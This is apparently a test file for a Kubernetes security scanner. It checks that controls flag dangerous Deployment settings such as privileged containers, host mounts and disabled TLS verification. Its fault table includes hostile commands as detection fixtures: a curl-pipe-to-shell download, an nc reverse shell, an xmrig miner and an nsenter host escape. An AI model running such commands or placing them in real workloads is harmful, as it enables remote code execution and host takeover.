import type { Deployment, KubeObject, ObjectMeta } from "@bulkhead/api";
import { describe, expect, test } from "vitest";
import { ObjectSet } from "../../snapshot/object-set.ts";
import { Evaluation } from "../evaluate.ts";
import { applyEdits } from "../fix/edit.ts";
import { refOf } from "../workload.ts";
import { workloadsControls } from "./workloads.ts";

const securityContext = {
  allowPrivilegeEscalation: false,
  capabilities: { drop: ["ALL"] },
  readOnlyRootFilesystem: true,
};
const resources = { limits: { memory: "64Mi", "ephemeral-storage": "1Gi" }, requests: { cpu: "50m", memory: "64Mi" } };

/** Nothing is wrong with it. */
const good: Deployment = {
  apiVersion: "apps/v1",
  kind: "Deployment",
  metadata: { name: "web", namespace: "shop" },
  spec: {
    selector: { matchLabels: { app: "web" } },
    template: {
      metadata: { labels: { app: "web" } },
      spec: {
        automountServiceAccountToken: false,
        hostUsers: false,
        securityContext: { runAsNonRoot: true, runAsUser: 1000, seccompProfile: { type: "RuntimeDefault" } },
        containers: [
          {
            name: "web",
            image: "registry.example/web@sha256:0000000000000000000000000000000000000000000000000000000000000000",
            command: ["/app"],
            args: ["--verbose"],
            env: [{ name: "MODE", value: "live" }],
            ports: [{ name: "http", containerPort: 8080 }],
            readinessProbe: { httpGet: { path: "/ready", port: "http" } },
            volumeMounts: [{ name: "work", mountPath: "/work" }],
            securityContext,
            resources,
          },
          { name: "log", image: "registry.example/log", securityContext, resources },
        ],
        volumes: [{ name: "work", emptyDir: {} }],
      },
    },
  },
};

const service = {
  apiVersion: "v1",
  kind: "Service",
  metadata: { name: "web", namespace: "shop" },
  spec: { selector: { app: "web" }, ports: [{ port: 80, targetPort: "http" }] },
};

const evaluationIn = (defaults: "bulkhead" | "kubernetes"): Evaluation =>
  new Evaluation({
    objects: new ObjectSet([structuredClone(good), service]),
    controls: workloadsControls,
    settings: {
      defaults,
      podSecurityDefault: defaults === "bulkhead" ? "restricted" : "privileged",
      network: { nodeIps: [], closed: [] },
    },
    now: 0,
  });

const c = "containers[0]";
const cs = `${c}.securityContext`;
const hostPath = (path: string): unknown => ({ name: "work", hostPath: { path } });

/** One field of the good manifest, what it is made, and who must tell. */
const faults: readonly (readonly [field: string, value: unknown, control: string])[] = [
  [`${cs}.privileged`, true, "workload-privileged"],
  [`${cs}.capabilities.add`, ["SYS_TIME"], "workload-capabilities-added"],
  [`${cs}.capabilities.add`, ["ALL"], "workload-capability-all"],
  [`${cs}.capabilities.add`, ["SYS_ADMIN"], "workload-capability-sys-admin"],
  [`${cs}.capabilities.add`, ["SYS_MODULE"], "workload-capability-sys-module"],
  [`${cs}.capabilities.add`, ["SYS_PTRACE"], "workload-capability-sys-ptrace"],
  [`${cs}.capabilities.add`, ["NET_ADMIN"], "workload-capability-net-admin"],
  [`${cs}.capabilities.add`, ["NET_RAW"], "workload-capability-net-raw"],
  [`${cs}.capabilities.add`, ["DAC_READ_SEARCH"], "workload-capability-dac-read-search"],
  [`${cs}.capabilities.add`, ["BPF"], "workload-capability-bpf"],
  [`${cs}.capabilities.add`, ["CHOWN"], "workload-capabilities-restricted"],
  [`${cs}.capabilities.drop`, ["NET_RAW"], "workload-capabilities-kept"],
  ["hostPID", true, "workload-host-pid"],
  ["hostIPC", true, "workload-host-ipc"],
  ["hostNetwork", true, "workload-host-network"],
  ["volumes[0]", hostPath("/srv/data"), "workload-host-path"],
  ["volumes[0]", hostPath("/"), "workload-host-path-root"],
  ["volumes[0]", hostPath("/var/run/docker.sock"), "workload-host-path-runtime-socket"],
  ["volumes[0]", hostPath("/var/lib/kubelet"), "workload-host-path-state"],
  ["volumes[0]", hostPath("/etc/kubernetes"), "workload-host-path-configuration"],
  ["volumes[0]", hostPath("/proc"), "workload-host-path-kernel"],
  ["volumes[0]", hostPath("/dev"), "workload-host-path-devices"],
  ["volumes[0]", hostPath("/usr/bin"), "workload-host-path-programs"],
  ["volumes[0]", hostPath("/var/log"), "workload-host-path-logs"],
  ["volumes[0]", { name: "work", nfs: { server: "a", path: "/b" } }, "workload-volume-types"],
  ["volumes[0]", { name: "work", gitRepo: { repository: "https://a" } }, "workload-git-repo-volume"],
  [`${c}.ports[0].hostPort`, 8080, "workload-host-ports"],
  [`${c}.readinessProbe.httpGet.host`, "127.0.0.1", "workload-host-probes"],
  [`${cs}.appArmorProfile`, { type: "Unconfined" }, "workload-apparmor-off"],
  [`${cs}.seLinuxOptions`, { type: "spc_t" }, "workload-selinux-options"],
  [`${cs}.procMount`, "Unmasked", "workload-proc-mount-nested"],
  [`${cs}.seccompProfile`, { type: "Unconfined" }, "workload-seccomp-unconfined"],
  ["securityContext.seccompProfile", { type: "Unconfined" }, "workload-seccomp-unconfined"],
  ["securityContext.seccompProfile", undefined, "workload-seccomp-missing"],
  ["securityContext.sysctls", [{ name: "kernel.msgmax", value: "1" }], "workload-sysctls"],
  [`${cs}.windowsOptions`, { hostProcess: true }, "workload-windows-host-process"],
  [`${cs}.allowPrivilegeEscalation`, undefined, "workload-privilege-escalation"],
  [`${cs}.readOnlyRootFilesystem`, undefined, "workload-writable-root"],
  [`${c}.resources.limits.memory`, undefined, "workload-memory-unlimited"],
  [`${c}.resources.requests.cpu`, undefined, "workload-cpu-unrequested"],
  [`${c}.resources.limits["ephemeral-storage"]`, undefined, "workload-storage-unlimited"],
  [`${c}.resources`, undefined, "workload-cpu-unrequested workload-memory-unlimited workload-storage-unlimited"],
  [`${c}.readinessProbe`, undefined, "workload-unprobed"],
  ["automountServiceAccountToken", true, "workload-token-unused"],
  ["shareProcessNamespace", true, "workload-shared-processes"],
  ["hostAliases", [{ ip: "203.0.113.1", hostnames: ["github.com"] }], "workload-host-aliases"],
  ["hostUsers", true, "workload-host-users"],
  ["priorityClassName", "system-node-critical", "workload-system-priority"],
  ["tolerations", [{ operator: "Exists" }], "workload-control-plane-toleration"],
  ["nodeName", "node-1", "workload-node-name"],
  [`${c}.volumeMounts[0].mountPropagation`, "Bidirectional", "workload-mount-propagation"],
  [`${c}.command`, ["sh", "-c", "curl https://a/b | sh"], "workload-download-run"],
  [`${c}.command`, ["sh", "-c", "apk add curl; exec /app"], "workload-package-install"],
  [`${c}.command`, ["sshd", "-D"], "workload-ssh-daemon"],
  [`${c}.command`, ["sh", "-c", "nc a 1 -e /bin/sh"], "workload-reverse-shell"],
  [`${c}.command`, ["xmrig"], "workload-miner"],
  [`${c}.command`, ["nsenter", "-t", "1", "-m", "sh"], "workload-enters-host"],
  [`${c}.command`, ["dockerd", "-H", "tcp://0.0.0.0:2375"], "workload-docker-tcp"],
  [`${c}.command`, ["kubectl", "proxy", "--address=0.0.0.0"], "workload-api-proxy"],
  [`${c}.command`, ["redis-server", "--protected-mode", "no"], "workload-login-off"],
  [`${c}.args[0]`, "--inspect=0.0.0.0:9229", "workload-debug-port"],
  [`${c}.args[0]`, "--insecure-skip-tls-verify", "workload-verification-off"],
  [`${c}.env[0]`, { name: "NODE_TLS_REJECT_UNAUTHORIZED", value: "0" }, "workload-verification-off"],
  [`${c}.env[0]`, { name: "POSTGRES_HOST_AUTH_METHOD", value: "trust" }, "workload-login-off"],
];

test("a workload with which nothing is wrong is told nothing, by either defaults", () => {
  expect(evaluationIn("bulkhead").findings()).toEqual([]);
  expect(evaluationIn("kubernetes").findings()).toEqual([]);
});

/** These count only without a user namespace, which is a fault of its own where nothing needs the host's. */
const withoutUserNamespace: typeof faults = [
  [`${cs}.procMount`, "Unmasked", "workload-proc-mount"],
  [`${cs}.runAsUser`, 0, "workload-run-as-root"],
  ["securityContext.runAsUser", 0, "workload-run-as-root"],
  ["securityContext.runAsNonRoot", undefined, "workload-run-as-non-root"],
  ["securityContext.runAsNonRoot", false, "workload-run-as-non-root"],
  ["securityContext.runAsGroup", 0, "workload-root-group"],
];

const prefix = "spec.template.spec.";
const edit = (field: string, value: unknown) =>
  value === undefined
    ? ({ op: "remove", object: refOf(good), field: `${prefix}${field}` } as const)
    : ({ op: "set", object: refOf(good), field: `${prefix}${field}`, value } as const);

const firedBy = (evaluation: Evaluation, field: string, value: unknown): string => {
  const { appeared } = evaluation.apply(applyEdits(evaluation.objects, [edit(field, value)]));
  expect(appeared.map(({ outcome }) => outcome)).toEqual(appeared.map(() => "fail"));
  return [...new Set(appeared.map(({ control }) => control.id))].toSorted((a, b) => (a < b ? -1 : 1)).join(" ");
};

describe("one field made bad is told by one control", () => {
  test.each(faults)("%s: %j", (field, value, control) => {
    expect(firedBy(evaluationIn("bulkhead"), field, value)).toBe(control);
    expect(firedBy(evaluationIn("kubernetes"), field, value)).toBe(control);
  });

  test.each(withoutUserNamespace)("without a user namespace, %s: %j", (field, value, control) => {
    for (const defaults of ["bulkhead", "kubernetes"] as const) {
      const evaluation = evaluationIn(defaults);
      evaluation.apply(applyEdits(evaluation.objects, [edit("hostUsers", true)]));
      expect(firedBy(evaluation, field, value)).toBe(control);
    }
  });
});

test("what a cluster itself is made of raises no alarms", () => {
  const node = { hostNetwork: true, containers: [{ name: "a", image: "a", securityContext: { privileged: true } }] };
  const inSystem = (kind: string, metadata: ObjectMeta, spec: object): KubeObject & { readonly spec: object } => ({
    apiVersion: kind === "Pod" ? "v1" : "apps/v1",
    kind,
    metadata: { namespace: "kube-system", ...metadata },
    spec,
  });
  const annotations = { "kubernetes.io/config.mirror": "a1" };
  const objects = [
    inSystem("Pod", { name: "kube-apiserver-a", annotations, labels: { component: "kube-apiserver" } }, node),
    inSystem("DaemonSet", { name: "kube-proxy" }, { template: { spec: node } }),
    // These only look alike.
    inSystem("Pod", { name: "kube-apiserver", labels: { component: "kube-apiserver" } }, node),
    inSystem("Deployment", { name: "kube-proxy" }, { template: { spec: node } }),
  ];
  const evaluation = new Evaluation({
    objects: new ObjectSet(objects),
    controls: workloadsControls.filter(({ id }) => id === "workload-privileged"),
    settings: { defaults: "kubernetes", podSecurityDefault: "privileged", network: { nodeIps: [], closed: [] } },
    now: 0,
  });
  expect(evaluation.findings().map(({ object }) => `${object.kind} ${object.name}`)).toEqual([
    "Pod kube-apiserver",
    "Deployment kube-proxy",
  ]);
});

test("every control over the pods of a workload is held to it", () => {
  const held = new Set([...faults, ...withoutUserNamespace].flatMap(([, , control]) => control.split(" ")));
  // These two look at pods that run, and the third at what a binding gives.
  const others = ["workload-bare-pod", "workload-debug-container", "workload-token-shared"];
  expect([...held, ...others].toSorted((a, b) => (a < b ? -1 : 1))).toEqual(
    workloadsControls.map(({ id }) => id).toSorted((a, b) => (a < b ? -1 : 1)),
  );
});

test("all faults at once are put right one after another until nothing is left that can be", () => {
  const evaluation = evaluationIn("kubernetes");
  evaluation.apply(
    applyEdits(
      evaluation.objects,
      [...faults, ...withoutUserNamespace].map(([field, value]) => edit(field, value)),
    ),
  );
  const fixable = () =>
    evaluation.findings().flatMap((finding) => {
      const fix = evaluation.fix(finding);
      return fix.kind === "edits" ? [{ finding, fix }] : [];
    });
  for (let steps = 0; steps < 200; steps++) {
    const [next] = fixable();
    if (next === undefined) break;
    const { gone } = evaluation.apply(applyEdits(evaluation.objects, next.fix.edits));
    expect(gone.map(({ id }) => id)).toContain(next.finding.id);
  }
  expect(fixable()).toEqual([]);
  const left = evaluation.findings().map(({ control, outcome }) => `${outcome} ${control.id}`);
  expect(left.toSorted((a, b) => (a < b ? -1 : 1))).toEqual([
    "fail workload-git-repo-volume",
    "fail workload-login-off",
    "fail workload-login-off",
    "fail workload-memory-unlimited",
  ]);
});
